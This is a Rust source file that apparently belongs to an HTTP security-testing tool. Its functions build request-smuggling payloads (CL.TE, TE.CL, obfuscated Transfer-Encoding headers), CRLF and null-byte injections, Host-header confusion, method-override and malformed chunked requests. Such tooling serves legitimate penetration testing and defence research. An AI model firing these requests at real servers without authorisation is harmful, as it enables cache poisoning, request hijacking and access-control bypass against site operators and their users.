// File: attacks.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2023-2025
// - Volker Schwaberow <volker@schwaberow.de>

use crate::request::{Malformation, RequestPlan, Scheme};
use rand::Rng;

/// Random marker so a reflected payload can be recognized in a later
/// response.
pub fn generate_marker() -> String {
    let mut rng = rand::thread_rng();
    format!("{:08x}", rng.gen::<u32>())
}

/// CL.TE smuggling: the frontend honors Content-Length, the backend
/// honors Transfer-Encoding and sees the smuggled bytes as a new request.
pub fn smuggling_cl_te(host: &str, path: &str, smuggled: &str) -> RequestPlan {
    let body = format!("0\r\n\r\n{}", smuggled);
    RequestPlan::new()
        .method("POST")
        .path(path)
        .host(host)
        .header("Host", host)
        .header("Content-Length", &body.len().to_string())
        .header("Transfer-Encoding", "chunked")
        .body(body)
}

/// TE.CL smuggling: the inverse disagreement. The chunked body carries the
/// smuggled request inside the first chunk.
pub fn smuggling_te_cl(host: &str, path: &str, smuggled: &str) -> RequestPlan {
    let chunk = format!("{:x}\r\n{}\r\n0\r\n\r\n", smuggled.len(), smuggled);
    RequestPlan::new()
        .method("POST")
        .path(path)
        .host(host)
        .header("Host", host)
        .header("Content-Length", "4")
        .header("Transfer-Encoding", "chunked")
        .body(chunk)
}

/// The recognized Transfer-Encoding obfuscations. Each one keeps the value
/// `chunked` visible to a lenient parser while a strict one may miss it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TeObfuscation {
    Space,
    Tab,
    Case,
    Null,
    VerticalTab,
    Newline,
}

impl TeObfuscation {
    pub fn from_name(name: &str) -> Option<Self> {
        match name {
            "space" => Some(Self::Space),
            "tab" => Some(Self::Tab),
            "case" => Some(Self::Case),
            "null" => Some(Self::Null),
            "vertical-tab" => Some(Self::VerticalTab),
            "newline" => Some(Self::Newline),
            _ => None,
        }
    }

    fn header_line(&self) -> Vec<u8> {
        match self {
            Self::Space => b"Transfer-Encoding : chunked".to_vec(),
            Self::Tab => b"Transfer-Encoding:\tchunked".to_vec(),
            Self::Case => b"TRANSFER-ENCODING: chunked".to_vec(),
            Self::Null => b"Transfer-Encoding: chunked\0".to_vec(),
            Self::VerticalTab => b"Transfer-Encoding:\x0bchunked".to_vec(),
            // LF plus a leading space: observable exactly as written
            Self::Newline => b"Transfer-Encoding:\n chunked".to_vec(),
        }
    }
}

pub fn obfuscated_transfer_encoding(host: &str, path: &str, kind: TeObfuscation) -> RequestPlan {
    RequestPlan::new()
        .method("POST")
        .path(path)
        .host(host)
        .header("Host", host)
        .header("Content-Length", "4")
        .raw_header(kind.header_line())
        .body("0\r\n\r\n")
}

/// CRLF injection through a header value.
pub fn crlf_injection(host: &str, name: &str, value: &str) -> RequestPlan {
    RequestPlan::new()
        .host(host)
        .header("Host", host)
        .malformed_header(Malformation::CrlfInjection, name, value)
}

pub fn duplicate_headers(host: &str, name: &str, first: &str, second: &str) -> RequestPlan {
    RequestPlan::new()
        .host(host)
        .header("Host", host)
        .header(name, first)
        .header(name, second)
}

/// One header whose value is exactly `size` filler bytes.
pub fn oversized_header(host: &str, name: &str, size: usize) -> RequestPlan {
    RequestPlan::new()
        .host(host)
        .header("Host", host)
        .header(name, &"A".repeat(size))
}

pub fn null_byte_injection(host: &str, name: &str, value: &str) -> RequestPlan {
    RequestPlan::new()
        .host(host)
        .header("Host", host)
        .malformed_header(Malformation::NullByte, name, value)
}

/// POST that claims to be something else via override headers.
pub fn method_override(host: &str, path: &str, target_method: &str) -> RequestPlan {
    RequestPlan::new()
        .method("POST")
        .path(path)
        .host(host)
        .header("Host", host)
        .header("X-HTTP-Method-Override", target_method)
        .header("X-Method-Override", target_method)
        .header("Content-Length", "0")
}

/// Absolute-URI request line; default ports are elided from the URI.
pub fn absolute_uri(host: &str, port: u16, path: &str) -> RequestPlan {
    let uri = if port == 80 {
        format!("http://{}{}", host, path)
    } else if port == 443 {
        format!("https://{}{}", host, path)
    } else {
        format!("http://{}:{}{}", host, port, path)
    };
    let scheme = if port == 443 { Scheme::Https } else { Scheme::Http };
    RequestPlan::new()
        .path(&uri)
        .host(host)
        .port(port)
        .scheme(scheme)
        .header("Host", host)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HostAttack {
    Duplicate,
    Override,
    AbsoluteUrl,
    PortInjection,
    Subdomain,
}

impl HostAttack {
    pub fn from_name(name: &str) -> Option<Self> {
        match name {
            "duplicate" => Some(Self::Duplicate),
            "override" => Some(Self::Override),
            "absolute-url" => Some(Self::AbsoluteUrl),
            "port-injection" => Some(Self::PortInjection),
            "subdomain" => Some(Self::Subdomain),
            _ => None,
        }
    }
}

/// Host-header confusion: routing layers and virtual hosts frequently
/// disagree about which Host wins.
pub fn host_header_attack(legit: &str, attack: &str, kind: HostAttack) -> RequestPlan {
    let base = RequestPlan::new().host(legit);
    match kind {
        HostAttack::Duplicate => base
            .header("Host", legit)
            .header("Host", attack),
        HostAttack::Override => base
            .header("Host", legit)
            .header("X-Forwarded-Host", attack)
            .header("X-Host", attack)
            .header("X-Original-Host", attack),
        HostAttack::AbsoluteUrl => base
            .path(&format!("http://{}/", attack))
            .header("Host", legit),
        HostAttack::PortInjection => base.header("Host", &format!("{}:@{}", legit, attack)),
        HostAttack::Subdomain => base.header("Host", &format!("{}.{}", attack, legit)),
    }
}

/// HTTP/0.9 has no version, no headers and no status line.
pub fn http09_request(path: &str) -> Vec<u8> {
    format!("GET {}\r\n", path).into_bytes()
}

/// N identical GETs suitable for one pipelined write.
pub fn pipelined_requests(host: &str, path: &str, count: usize) -> Vec<RequestPlan> {
    (0..count)
        .map(|_| {
            RequestPlan::new()
                .path(path)
                .host(host)
                .header("Host", host)
                .header("Connection", "keep-alive")
        })
        .collect()
}

/// One chunk of a chunked body. A `size_override` or `extension` bends the
/// size line out of shape.
#[derive(Debug, Clone, Default)]
pub struct Chunk {
    pub data: String,
    pub extension: Option<String>,
    pub size_override: Option<String>,
}

impl Chunk {
    pub fn new(data: &str) -> Self {
        Self {
            data: data.to_string(),
            ..Default::default()
        }
    }

    pub fn with_extension(data: &str, extension: &str) -> Self {
        Self {
            data: data.to_string(),
            extension: Some(extension.to_string()),
            ..Default::default()
        }
    }
}

/// Serialize chunks with hex size lines and the `0\r\n\r\n` terminator.
/// Malformed chunks carry `N; extension=value` size lines.
pub fn create_chunked_body(chunks: &[Chunk]) -> Vec<u8> {
    let mut out = Vec::new();
    for chunk in chunks {
        let size = match &chunk.size_override {
            Some(s) => s.clone(),
            None => format!("{:x}", chunk.data.len()),
        };
        match &chunk.extension {
            Some(ext) => out.extend_from_slice(format!("{}; {}\r\n", size, ext).as_bytes()),
            None => out.extend_from_slice(format!("{}\r\n", size).as_bytes()),
        }
        out.extend_from_slice(chunk.data.as_bytes());
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

#[cfg(test)]
#[path = "attacks_tests.rs"]
mod attacks_tests;
